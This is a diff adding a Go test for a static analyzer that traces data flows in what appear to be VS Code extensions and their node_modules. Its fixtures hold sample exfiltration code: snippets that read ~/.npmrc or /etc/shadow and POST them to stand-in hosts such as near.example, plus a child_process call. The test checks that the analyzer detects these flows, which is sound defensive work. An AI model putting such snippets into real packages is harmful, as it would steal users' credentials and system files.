@@ -1,8 +1,13 @@
 package facts_test
 
 import (
+	"cmp"
+	"fmt"
+	"slices"
 	"strings"
 	"testing"
+
+	"github.com/ringfence-dev/ringfence/internal/facts"
 )
 
 // shallowCases are extensions and, for one file, whether it is shallow and
@@ -95,4 +100,75 @@ func TestShallowFiles(t *testing.T) {
 			}
 		})
 	}
+}
+
+// packages is an extension whose own code is a part of its node_modules' power.
+func packages(main string) files {
+	return files{
+		"package.json":                    manifest(`"main": "./main.js"`),
+		"main.js":                         main,
+		"node_modules/near/index.js":      "exports.run = (x) => require('lower').run(x)",
+		"node_modules/lower/index.js":     "exports.run = (x) => fetch('https://near.example/in', {method: 'POST', body: x})",
+		"node_modules/far/index.js":       "const low = require('far-low'); exports.run = (x) => low.run(x)",
+		"node_modules/far-low/index.js":   "exports.run = (x) => fetch('https://far.example/in', {method: 'POST', body: x})",
+		"node_modules/alone/index.js":     "require('./low')(require('fs').readFileSync('/etc/shadow', 'utf8'))",
+		"node_modules/alone/low.js":       "module.exports = (x) => fetch('https://alone.example/in', {method: 'POST', body: x})",
+		"node_modules/@far/away/index.js": "require('child_process').execFile('uptime')",
+	}
+}
+
+// TestWhatNothingLoadsIsSolvedApart: of much code, packages that nothing is seen to load are solved apart. What each of
+// them does is found all the same, and what solving finds to be loaded meets who loads it.
+func TestWhatNothingLoadsIsSolvedApart(t *testing.T) {
+	const secret = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')"
+	cases := []struct {
+		name, main string
+		sent       string // the package whose code sends it
+		reached    string
+	}{
+		{"named", "require('near').run(" + secret + ")", "lower", "main.js near lower"},
+		{"named by a member", "const parts = {name: 'far'}; require(parts.name).run(" + secret + ")", "far-low", "main.js far far-low"},
+		{"none", "require('vscode').window.showInformationMessage('a')", "", "main.js"},
+	}
+	for _, c := range cases {
+		for _, most := range []int{1, facts.DefaultTogether} {
+			t.Run(fmt.Sprintf("%s, %d together", c.name, most), func(t *testing.T) {
+				p, err := facts.Analyze(t.Context(), load(t, packages(c.main)), facts.Options{Together: most})
+				if err != nil {
+					t.Fatal(err)
+				}
+				var sent []string
+				for _, f := range p.Trails {
+					sent = append(sent, f.Sink.Where.File+" from "+f.Source.What)
+				}
+				words := strings.Join(sent, "\n")
+				for _, to := range []string{"lower", "far-low"} {
+					if got := strings.Contains(words, "node_modules/"+to+"/"); got != (to == c.sent) {
+						t.Errorf("sent by %s: %v; want it by %q:\n%s", to, got, c.sent, words)
+					}
+				}
+				if !strings.Contains(words, "node_modules/alone/") {
+					t.Errorf("what a package does by itself is not found:\n%s", words)
+				}
+				if len(calls(p, "child_process.execFile")) != 1 {
+					t.Error("the program that a package starts is not found")
+				}
+				var reached []string
+				for _, m := range p.Modules {
+					if m.Reached {
+						reached = append(reached, cmp.Or(m.Dependency, m.Path))
+					}
+				}
+				if want := strings.Fields(c.reached); !sameSet(reached, want) {
+					t.Errorf("reached %v, want %v", reached, want)
+				}
+			})
+		}
+	}
+}
+
+func sameSet(a, b []string) bool {
+	slices.Sort(a)
+	slices.Sort(b)
+	return slices.Equal(a, b)
 }
